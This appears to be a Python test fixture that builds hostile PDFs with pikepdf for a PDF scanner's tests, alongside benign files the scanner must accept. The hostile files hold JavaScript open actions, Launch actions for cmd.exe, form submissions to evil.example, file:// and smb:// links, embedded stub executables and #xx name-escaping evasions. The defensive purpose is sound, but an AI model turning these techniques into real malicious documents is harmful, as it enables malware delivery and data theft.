"""A corpus of hostile PDFs, built with pikepdf at test time: each trick a viewer would run, open or
fetch on its own, placed where real attacks put it (document, page, annotation, form field, action
chain, name tree), as a direct or an indirect object, saved plain or with object streams and a
compressed cross-reference stream, and a few with names hidden behind `#xx` escapes.

`CORPUS` maps a name to (bytes builder, the finding kind expected); `benign()` gives files that must
still be accepted.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

TEXT = b"BT /F1 12 Tf 20 100 Td (Inspection report) Tj ET"


def base() -> tuple[pikepdf.Pdf, pikepdf.Page]:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(300, 200))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                                                  BaseFont=Name.Helvetica)))
    page.obj.Contents = pdf.make_stream(TEXT)
    return pdf, page


def save(pdf: pikepdf.Pdf, *, streams: bool) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=streams)
    return out.getvalue()


def js(code: str = "app.alert('x')") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def action(kind: str, **extra) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **extra)


def maybe_indirect(pdf, obj, indirect: bool):
    return pdf.make_indirect(obj) if indirect else obj


def link(pdf, act, *, indirect: bool) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 100, 30]),
                      A=maybe_indirect(pdf, act, indirect))


def add_annot(pdf, page, annot) -> None:
    page.obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annot)]))


def exe_stream(pdf) -> pikepdf.Stream:
    stream = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode")
    stream.Type = Name.EmbeddedFile
    return stream


def filespec(pdf) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"),
                      EF=Dictionary(F=exe_stream(pdf)))


# --- tricks: each takes (pdf, page, indirect) and plants one thing --------------------------------
def open_action_js(pdf, page, ind):
    pdf.Root.OpenAction = maybe_indirect(pdf, js(), ind)


def open_action_launch(pdf, page, ind):
    pdf.Root.OpenAction = maybe_indirect(pdf, action("Launch", F=String("cmd.exe")), ind)


def open_action_next_chain(pdf, page, ind):
    pdf.Root.OpenAction = Dictionary(Type=Name.Action, S=Name.GoTo, D=Array([page.obj, Name.Fit]),
                                     Next=maybe_indirect(pdf, js(), ind))


def next_chain_deep(pdf, page, ind):
    last = action("Launch", F=String("calc.exe"))
    middle = Dictionary(Type=Name.Action, S=Name.GoTo, D=Array([page.obj, Name.Fit]),
                        Next=Array([maybe_indirect(pdf, last, ind)]))
    pdf.Root.OpenAction = Dictionary(Type=Name.Action, S=Name.GoTo, D=Array([page.obj, Name.Fit]),
                                     Next=maybe_indirect(pdf, middle, ind))


def next_chain_cycle(pdf, page, ind):
    first = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.GoTo, D=Array([page.obj, Name.Fit])))
    second = pdf.make_indirect(js())
    first.Next = second
    second.Next = first  # a cycle: the walk must end
    add_annot(pdf, page, link(pdf, first, indirect=True))


def catalog_aa(pdf, page, ind):
    pdf.Root.AA = Dictionary(WC=maybe_indirect(pdf, js(), ind))


def page_aa_open(pdf, page, ind):
    page.obj.AA = Dictionary(O=maybe_indirect(pdf, js(), ind))


def page_aa_goto(pdf, page, ind):
    # Even a harmless-looking automatic action is refused: /AA runs without a click.
    page.obj.AA = Dictionary(C=maybe_indirect(pdf, Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit])), ind))


def second_page_aa(pdf, page, ind):
    second = pdf.add_blank_page(page_size=(300, 200))
    second.obj.AA = Dictionary(O=maybe_indirect(pdf, js(), ind))


def link_of(kind: str, **extra) -> Callable:
    def plant(pdf, page, ind):
        add_annot(pdf, page, link(pdf, action(kind, **extra), indirect=ind))
    plant.__name__ = f"link_{kind.lower()}"
    return plant


def link_js(pdf, page, ind):
    add_annot(pdf, page, link(pdf, js(), indirect=ind))


def link_js_in_stream(pdf, page, ind):
    code = pdf.make_stream(b"this.exportDataObject({cName: 'a', nLaunch: 2});")
    add_annot(pdf, page, link(pdf, Dictionary(S=Name.JavaScript, JS=code), indirect=ind))


def link_uri(address: str) -> Callable:
    def plant(pdf, page, ind):
        add_annot(pdf, page, link(pdf, action("URI", URI=String(address)), indirect=ind))
    plant.__name__ = "link_uri_" + address.split(":", 1)[0]
    return plant


def annot_aa(pdf, page, ind):
    annot = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 100, 30]),
                       AA=Dictionary(E=maybe_indirect(pdf, js(), ind)))
    add_annot(pdf, page, annot)


def widget(pdf, page, **extra) -> Dictionary:
    field = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
                                         Rect=Array([10, 50, 150, 70]), P=page.obj, **extra))
    page.obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return field


def field_action_js(pdf, page, ind):
    widget(pdf, page, A=maybe_indirect(pdf, js(), ind))


def field_keystroke_js(pdf, page, ind):
    widget(pdf, page, AA=Dictionary(K=maybe_indirect(pdf, js("event.rc = true"), ind)))


def field_calculate_js(pdf, page, ind):
    widget(pdf, page, AA=Dictionary(C=maybe_indirect(pdf, js("event.value = 1"), ind)))


def field_submit(pdf, page, ind):
    widget(pdf, page, A=maybe_indirect(pdf, action("SubmitForm", F=String("https://evil.example/x")), ind))


def xfa_form(pdf, page, ind):
    widget(pdf, page)
    pdf.Root.AcroForm.XFA = maybe_indirect(pdf, pdf.make_stream(b"<xdp:xdp></xdp:xdp>"), True)


def outline_js(pdf, page, ind):
    item = pdf.make_indirect(Dictionary(Title=String("Open"), A=maybe_indirect(pdf, js(), ind)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def names_javascript(pdf, page, ind):
    tree = Dictionary(Names=Array([String("init"), maybe_indirect(pdf, js(), ind)]))
    pdf.Root.Names = Dictionary(JavaScript=maybe_indirect(pdf, tree, ind))


def names_embedded_files(pdf, page, ind):
    tree = Dictionary(Names=Array([String("invoice.exe"), pdf.make_indirect(filespec(pdf))]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=maybe_indirect(pdf, tree, ind))


def file_attachment_annot(pdf, page, ind):
    annot = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([10, 10, 30, 30]),
                       FS=maybe_indirect(pdf, filespec(pdf), ind), Name=Name.Paperclip)
    add_annot(pdf, page, annot)


def file_attachment_annot_without_ef(pdf, page, ind):
    annot = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([10, 10, 30, 30]),
                       FS=String("\\\\server\\share\\payload.exe"))
    add_annot(pdf, page, annot)


def orphan_embedded_file() -> bytes:
    """An embedded executable referenced from nowhere, spliced in before the table (so the table's
    offsets are off): a viewer rebuilding the table finds it, and so does qpdf."""
    pdf, _page = base()
    data = save(pdf, streams=False)
    return data.replace(b"\nxref\n", b"\n99 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
                                     b"\nendobj\nxref\n", 1)


def annot_of(subtype: str, **extra) -> Callable:
    def plant(pdf, page, ind):
        annot = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([10, 10, 100, 100]), **extra)
        add_annot(pdf, page, annot)
    plant.__name__ = f"annot_{subtype.lower()}"
    return plant


def screen_rendition(pdf, page, ind):
    annot = Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([10, 10, 100, 100]),
                       A=maybe_indirect(pdf, action("Rendition", OP=1), ind))
    add_annot(pdf, page, annot)


def js_key_alone(pdf, page, ind):
    # No /S at all: some viewers run /JS wherever they meet it.
    add_annot(pdf, page, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 100, 30]),
                                    A=Dictionary(JS=String("app.alert(1)"))))


TRICKS: list[tuple[Callable, str]] = [
    (open_action_js, "javascript"),
    (open_action_launch, "action"),
    (open_action_next_chain, "javascript"),
    (next_chain_deep, "action"),
    (next_chain_cycle, "javascript"),
    (catalog_aa, "automatic_action"),
    (page_aa_open, "automatic_action"),
    (page_aa_goto, "automatic_action"),
    (second_page_aa, "automatic_action"),
    (link_js, "javascript"),
    (link_js_in_stream, "javascript"),
    (link_of("Launch", F=String("C:\\Windows\\System32\\cmd.exe")), "action"),
    (link_of("SubmitForm", F=String("https://evil.example/collect")), "action"),
    (link_of("ImportData", F=String("data.fdf")), "action"),
    (link_of("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])), "action"),
    (link_of("GoToE", T=Dictionary(R=Name.C, N=String("a"))), "action"),
    (link_of("Sound"), "action"),
    (link_of("Movie"), "action"),
    (link_of("RichMediaExecute"), "action"),
    (link_of("GoTo3DView"), "action"),
    (link_uri("javascript:app.alert(1)"), "unsafe_link"),
    (link_uri("file:///etc/passwd"), "unsafe_link"),
    (link_uri("smb://server/share"), "unsafe_link"),
    (annot_aa, "automatic_action"),
    (field_action_js, "javascript"),
    (field_keystroke_js, "javascript"),
    (field_calculate_js, "javascript"),
    (field_submit, "action"),
    (xfa_form, "xfa"),
    (outline_js, "javascript"),
    (names_javascript, "javascript"),
    (names_embedded_files, "embedded_file"),
    (file_attachment_annot, "file_attachment"),
    (file_attachment_annot_without_ef, "file_attachment"),
    (annot_of("RichMedia", RichMediaContent=Dictionary()), "multimedia"),
    (annot_of("3D", **{"3DD": Dictionary()}), "multimedia"),
    (annot_of("Sound"), "multimedia"),
    (annot_of("Movie"), "multimedia"),
    (screen_rendition, "multimedia"),
    (js_key_alone, "javascript"),
]


def build(trick: Callable, *, indirect: bool, streams: bool) -> bytes:
    pdf, page = base()
    trick(pdf, page, indirect)
    return save(pdf, streams=streams)


def escaped_names(data: bytes) -> bytes:
    """The same file with its action names written with #xx escapes (offsets now wrong, as in many
    real attacks: viewers rebuild the table, and so does qpdf)."""
    return (data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/Launch", b"/L#61unch")
            .replace(b"/OpenAction", b"/Open#41ction"))


def _corpus() -> dict[str, tuple[Callable[[], bytes], str]]:
    corpus: dict[str, tuple[Callable[[], bytes], str]] = {}
    for trick, kind in TRICKS:
        name = trick.__name__
        corpus[f"{name}-direct-plain"] = (lambda t=trick: build(t, indirect=False, streams=False), kind)
        corpus[f"{name}-indirect-objstm"] = (lambda t=trick: build(t, indirect=True, streams=True), kind)
    for trick, kind in [(open_action_js, "javascript"), (open_action_launch, "action"), (link_js, "javascript"),
                        (page_aa_open, "automatic_action")]:
        corpus[f"{trick.__name__}-escaped-names"] = (
            lambda t=trick: escaped_names(build(t, indirect=True, streams=False)), kind)
    corpus["incremental-update-adds-js"] = (incremental_js, "javascript")
    corpus["orphan-embedded-file"] = (orphan_embedded_file, "embedded_file")
    return corpus


def incremental_js() -> bytes:
    """A clean file with an appended update (new catalog with an open action), as editors write them."""
    pdf, _page = base()
    clean = save(pdf, streams=False)
    reopened = pikepdf.open(io.BytesIO(clean))
    reopened.Root.OpenAction = reopened.make_indirect(js())
    out = io.BytesIO()
    reopened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    # qpdf writes a whole new file; splice it after the clean one so the file has two revisions.
    return clean + b"\n" + out.getvalue()


CORPUS = _corpus()


# --- benign -------------------------------------------------------------------------------------
def plain_text() -> bytes:
    pdf, _page = base()
    return save(pdf, streams=True)


def with_image() -> bytes:
    pdf, page = base()
    pixels = bytes(range(256)) * 3 * 16
    image = pdf.make_stream(zlib.compress(pixels), Type=Name.XObject, Subtype=Name.Image, Width=64, Height=64,
                            ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.FlateDecode)
    page.obj.Resources.XObject = Dictionary(Im1=image)
    page.obj.Contents = pdf.make_stream(TEXT + b" q 64 0 0 64 100 50 cm /Im1 Do Q")
    return save(pdf, streams=False)


def with_web_link() -> bytes:
    pdf, page = base()
    add_annot(pdf, page, link(pdf, action("URI", URI=String("https://example.com/report")), indirect=True))
    return save(pdf, streams=True)


def with_internal_link_and_open_page() -> bytes:
    pdf, page = base()
    second = pdf.add_blank_page(page_size=(300, 200))
    add_annot(pdf, page, link(pdf, Dictionary(S=Name.GoTo, D=Array([second.obj, Name.Fit])), indirect=False))
    pdf.Root.OpenAction = Array([page.obj, Name.Fit])
    return save(pdf, streams=False)


BENIGN = {
    "plain-text": plain_text,
    "image": with_image,
    "web-link": with_web_link,
    "internal-link": with_internal_link_and_open_page,
}
